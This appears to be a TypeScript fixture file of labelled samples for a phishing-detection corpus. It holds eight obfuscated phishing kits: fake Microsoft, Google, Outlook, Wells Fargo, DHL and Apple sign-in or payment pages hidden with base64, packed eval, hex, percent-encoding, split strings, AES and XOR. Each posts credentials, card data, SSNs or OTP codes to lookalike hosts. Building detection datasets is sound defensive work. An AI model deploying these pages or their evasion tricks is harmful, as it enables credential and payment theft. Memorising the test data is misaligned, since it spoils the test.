import type { Entry } from '../entry.js';

/** Obfuscated kits: atob, char codes, packed JS, document.write of encoded HTML, hex escapes, split strings. */
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const hex = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => '\\x' + b.toString(16).padStart(2, '0')).join('');
const pct = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).padStart(2, '0')).join('');

export const entries: Entry[] = [
  {
    id: 'obf-atob-docwrite-m365',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://files-secure-preview.com/view/doc.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>document.write(atob("${b64(`<div style="font-family:Segoe UI;width:440px;margin:90px auto;padding:44px;box-shadow:0 2px 6px #0003"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" alt="Microsoft"><h2>Sign in</h2><p>Sign in to view the secure document shared by Accounts Payable</p><form method="post" action="https://files-secure-preview.com/view/p.php"><input type="email" name="login" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form></div>`)}"));</script>
</body></html>`,
  },
  {
    id: 'obf-packed-eval-google',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://docs-share-online.cfd/d/e/2PACX/viewform',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Google Docs</title></head><body>
<div id="root"></div>
<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\\'2\\').3=\\'<4 5="6://7-8-9.a/b/c" d="e"><f g="h" i="j"><f g="k" l="k" i="m"><n>o</n></4>\\';',25,25,'document|getElementById|root|innerHTML|form|action|https|docs|share|online|cfd|gate|post|method|post|input|name|email|placeholder|Google Account email|password|type|Enter your password|button|Sign in'.split('|'),0,{}))</script>
<p style="font-family:Arial;color:#5f6368">Google Docs — You need permission. Sign in with your Google Account to request access.</p></body></html>`,
  },
  {
    id: 'obf-hex-escape-outlook',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://a7x9-cdn-assets.buzz/o/login',
    body: `<!doctype html><html><head><meta charset="utf-8"><title>Outlook</title><style>body{background:#f3f2f1}</style></head><body>
<script>var _$_a="${hex(`<div style="width:420px;margin:80px auto;background:#fff;padding:40px;font-family:Segoe UI"><h2>Outlook</h2><p>Your session has timed out. Please sign in again.</p><form action="https://a7x9-cdn-assets.buzz/o/r.php" method="POST"><input name="u" type="email" placeholder="someone@example.com"><input name="p" type="password" placeholder="Password"><button>Sign in</button></form></div>`)}";
document.body.insertAdjacentHTML('afterbegin', _$_a);</script></body></html>`,
  },
  {
    id: 'obf-unescape-bank',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://verify-client-access.live/b/',
    body: `<html><head><title>Online Banking</title></head><body>
<script language="javascript">document.write(unescape('${pct(`<div style="font-family:Arial;width:400px;margin:50px auto"><h2 style="color:#d71e28">WELLS FARGO</h2><p>Confirm your identity to remove the hold on your account.</p><form method="post" action="https://verify-client-access.live/b/post.php"><input name="user" placeholder="Username"><input type="password" name="pass" placeholder="Password"><input name="ssn" placeholder="SSN"><input name="card" placeholder="Debit card number"><input name="pin" type="password" placeholder="PIN"><button>Continue</button></form></div>`)}'));</script></body></html>`,
  },
  {
    id: 'obf-split-concat-dhl',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://track-parcel-now.shop/d/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Tracking</title></head><body>
<script>
var parts = ['<h1 style="color:#d40511;font-family:Arial">D','HL Ex','press</h1><p>Your shipment is on hold. Pay the customs fee to release it.</p>',
  '<form action="https://track-parcel-now.shop/d/pay.php" method="post">', '<input name="c' + 'c" placeholder="Card n' + 'umber">', '<input name="e' + 'xp" placeholder="MM/YY">',
  '<input name="c' + 'vv" placeholder="CVV">', '<input name="otp" placeholder="SMS c' + 'ode">', '<button>P' + 'ay €1.99</button></form>'];
var root = document.createElement('div'); root.innerHTML = parts.join(''); document.body.appendChild(root);
</script></body></html>`,
  },
  {
    id: 'obf-aes-cryptojs',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://sharedfile-access.quest/v/index.html',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Please wait...</title>
<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script></head><body>
<div id="c"></div>
<script>
// payload encrypted so scanners only see ciphertext
var enc = "U2FsdGVkX1+q1Kx7Y0Zx1mWbq9m4Jm9Wb7hXrVdA5P3XxkWm0yPq1JpYl8dPpzq0Zr7j2p6Fv3bYx9k0g3vE8lF4sN0cQm1d9Qz8Jk0pT1Xz7w2r5kY3s9J1a6L0m8N4b2V7x5C9z1Q3e6R8t0U2y4I6o8P0a2S4d6F8g0H2j4K6l8";
var key = location.hash.slice(1) || "k3y-2026";
try { document.getElementById('c').innerHTML = CryptoJS.AES.decrypt(enc, key).toString(CryptoJS.enc.Utf8); } catch (e) { location.replace('https://www.office.com'); }
</script>
<form style="display:none" method="post" action="https://sharedfile-access.quest/v/next.php"><input name="email"><input name="password" type="password"></form>
</body></html>`,
  },
  {
    id: 'obf-jsfuck-like-redirect',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://cdn-assets-sync.lol/r/a.html',
    body: `<html><head><title>Microsoft Office 365</title></head><body style="background:#f2f2f2">
<script>
var _0x4a21=['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e','\\x68\\x72\\x65\\x66','aHR0cHM6Ly9sb2dpbi1taWNyb3NvZnRvbmxpbmUuY2RuLWFzc2V0cy1zeW5jLmxvbC9jb21tb24vb2F1dGgyL2F1dGhvcml6ZQ=='];
(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a21,0x0));
window[_0x4a21[0]][_0x4a21[1]] = atob(_0x4a21[2]) + '?client_id=00000002-0000-0ff1-ce00-000000000000&email=' + encodeURIComponent(location.hash.slice(1));
</script><p>Loading Office 365...</p></body></html>`,
  },
  {
    id: 'obf-fromcharcode-apple',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://apple-support-case.work/en/verify',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title></title></head><body>
<script>
function d(s,k){var o='';for(var i=0;i<s.length;i++){o+=String.fromCharCode(s[i]^k);}return o;}
var t=[${[...'<h1>Apple ID</h1><p>Your Apple ID has been disabled for security reasons.</p><form action="https://apple-support-case.work/en/s.php" method="post"><input name="appleid" placeholder="Apple ID"><input type="password" name="password" placeholder="Password"><button>Unlock</button></form>'].map((c) => c.charCodeAt(0) ^ 23).join(',')}];
document.body.innerHTML=d(t,23);document.title='Apple ID';
</script></body></html>`,
  },
];
